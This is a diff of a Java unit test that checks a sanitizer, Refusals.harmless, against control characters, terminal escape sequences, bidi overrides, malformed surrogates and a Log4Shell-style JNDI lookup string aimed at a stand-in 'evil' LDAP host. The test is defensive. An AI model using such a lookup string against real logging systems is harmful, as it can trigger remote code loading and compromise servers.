@@ -17,7 +17,8 @@ class RefusalsTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"\r", "\n", "\u0000", "\u001b[31m", "\u007f", "\u0085", "\u009b", "\u2028", "\u202e", "\t", "${jndi:ldap://evil}",
+    @ValueSource(strings = {"\r", "\n", "\u0000", "\u001b[31m", "\u007f", "\u0085", "\u009b", "\u2028", "\u202e", "\t",
+            "${jndi:ldap://evil}",
             "\u00e4", "\uD83D\uDE00", "\uD83D"})
     void s19_nothingBeginsALineOrMeansSomethingToATerminalOrALogger(String evil) {
         assertThat(Refusals.harmless("a" + evil + "b")).startsWith("a\\u").endsWith("b").matches("[\\x20-\\x7e]+").doesNotContain("${");
